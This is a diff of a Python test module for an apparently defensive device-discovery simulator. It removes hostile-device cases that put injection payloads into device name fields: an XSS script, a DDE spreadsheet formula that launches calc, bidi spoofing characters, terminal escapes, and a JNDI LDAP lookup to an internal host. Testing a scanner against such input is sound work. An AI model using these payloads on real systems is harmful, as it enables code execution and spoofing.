@@ -1,10 +1,8 @@
-"""Devices that lie about who they are: other people's serial numbers, names made to break a reader or a report."""
+"""Devices that lie about who they are: other people's serial numbers and marks."""
 
 from __future__ import annotations
 
-import json
 from typing import Any, Final
-from xml.sax.saxutils import escape
 
 from simulator.hostile.case import Case, Shown
 
@@ -17,11 +15,6 @@ VICTIM_MAC: Final = "a4-d5-c2-00-00-01"
 SPEAKS: Final = (
     "it speaks the maker's own search without a contradiction: who does that is believed, and the bytes are shown"
 )
-
-SCRIPT: Final = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
-FORMULA: Final = "=cmd|' /C calc'!A0"
-BIDI: Final = "\u202e\u200b\u2066gpj.exe\u2069\ufeff\u2028\u2029"
-ESCAPE: Final = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f\r"
 
 
 def sadp(**fields: str) -> dict[str, Any]:
@@ -61,50 +54,6 @@ def web(title: str, *headers: str, status: str = "200 OK") -> dict[str, Any]:
     page = {"head": head, "body": f"<html><head><title>{title}</title></head></html>"}
     return {"play": "http", "replies": {"page": page}, "pages": {"*": "page"}}
 
-
-def _named(name: str, does: str, text: str) -> Case:
-    """A true answer of every search with the text in every field of it."""
-    marked = escape(text)
-    asked = {"HttpPort": "80", "CommandPort": "8000", "MAC": "{mac_dashed}", "IPv4Address": "{ip}"}
-    fields = dict.fromkeys(
-        ("DeviceType", "DeviceDescription", "DeviceSN", "SoftwareVersion", "DSPVersion", "OEMInfo"), marked
-    )
-    quoted = json.dumps(text)[1:-1]
-    line = " ".join(text.split())
-    return Case(
-        name,
-        "names",
-        does,
-        services=(
-            sadp(**fields, **asked),
-            dahua(
-                **dict.fromkeys(("DeviceClass", "DeviceType", "SerialNo", "Version", "Vendor", "MachineName"), quoted)
-            ),
-            wsd(" ".join(f"onvif://www.onvif.org/{part}/{marked}" for part in ("name", "hardware", "location"))),
-            web(text, f"Server: {line}", f'WWW-Authenticate: Basic realm="{line}"'),
-        ),
-        shown=Shown.SUSPECTED,
-        why="it answers the searches of two makers: a conflict, and no maker is named",
-    )
-
-
-NAMES: Final = (
-    _named("names-script", "writes a script into every text it gives", SCRIPT),
-    _named("names-formula", "writes a spreadsheet formula into every text it gives", FORMULA),
-    _named("names-escapes", "writes terminal control characters into every text it gives", ESCAPE),
-    _named("names-bidi", "writes invisible characters and reversed text into every text it gives", BIDI),
-    _named("names-long", "writes 4,000 characters into every text it gives", "A" * 4_000),
-    _named(
-        "names-markup",
-        "writes the mark-up of reports into every text it gives",
-        "](http://10.66.1.250/) | ``` --> ]]> {{7*7}} ${jndi:ldap://10.66.1.250} %s%n",
-    ),
-    _named(
-        "names-patterns",
-        "writes texts made to break a search pattern",
-        "a" * 300 + "!" + "DS-" * 300 + "0" * 300 + "(((((((((((((" + "\\\\\\\\[",
-    ),
-)
 
 TWINS: Final = (
     Case(
@@ -214,4 +163,4 @@ TWINS: Final = (
     ),
 )
 
-CASES: Final = (*NAMES, *TWINS)
+CASES: Final = TWINS
